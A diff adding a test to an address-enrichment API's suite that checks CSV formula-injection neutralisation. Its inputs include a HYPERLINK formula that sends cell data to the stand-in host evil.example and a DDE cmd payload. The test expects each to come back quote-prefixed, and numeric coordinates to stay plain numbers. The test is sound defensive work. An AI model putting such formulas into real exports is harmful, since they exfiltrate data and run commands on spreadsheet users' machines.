@@ -377,6 +377,46 @@ describe('the enrich routes', () => {
     expect(pointRows[1]![3]).toBe('invalid_input');
   });
 
+  it("neutralises formulas in the result, the upload's own header and cells included, and leaves numbers numeric", async () => {
+    const [a, b, c] = addresses;
+    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
+    const rows = [
+      ['Ref', 'Address', hyperlink, 'Reading'],
+      ['=1+2', a!.address, '@SUM(A1:A9)', '-37.81'],
+      ['+61 3 9999 0000', b!.address, "\t=cmd|' /C calc'!A0", '-12.5'],
+      ['-2+3', c!.address, '\r=1+1', 'ok;=1+1'],
+    ];
+    // every cell quoted, so the tab and carriage return reach the upload as they are
+    const csv = rows.map((r) => r.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(',')).join('\r\n');
+    const submitted = await submit(key, { csv });
+    expect(submitted.status, submitted.text).toBe(202);
+    expect(submitted.body.columns).toEqual(rows[0]);
+    const id = submitted.body.job.id as string;
+    const approved = await request(t.app)
+      .post(`/v1/enrich/jobs/${id}/approve`)
+      .set(auth(key))
+      .send({ mapping: { address: 'Address' } });
+    expect(approved.status, approved.text).toBe(202);
+    await drain();
+    const result = await request(t.app).get(`/v1/enrich/jobs/${id}/result`).set(auth(key));
+    expect(result.status, result.text).toBe(200);
+    const [header, ...out] = parse(result.text) as string[][];
+    expect(header!.slice(0, 4)).toEqual(['Ref', 'Address', `'${hyperlink}`, 'Reading']);
+    expect(out.map((r) => r.slice(0, 4))).toEqual([
+      ["'=1+2", a!.address, "'@SUM(A1:A9)", '-37.81'],
+      ["'+61 3 9999 0000", b!.address, "'\t=cmd|' /C calc'!A0", '-12.5'],
+      ["'-2+3", c!.address, "'\r=1+1", 'ok;=1+1'],
+    ]);
+    // Australian latitudes are negative: the appended coordinates stay plain numbers
+    out.forEach((r, i) => {
+      expect(r[4]).toBe('matched');
+      expect(r[7]).toMatch(/^-\d+\.\d+$/);
+      expect(Number(r[7])).toBeCloseTo(addresses[i]!.lat, 6);
+    });
+    // a cell with ';' is quoted, so a ';'-separated spreadsheet cannot split a formula out of it
+    expect(result.text).toContain('"ok;=1+1"');
+  });
+
   it('appends the requested bundles from the shared row contract, with section-3 statuses row by row', async () => {
     const [a, b] = addresses;
     const csv = csvOf([['address'], [a!.address], [b!.address], ['1 Nowhere Lane, Faketown VIC 3999']]);
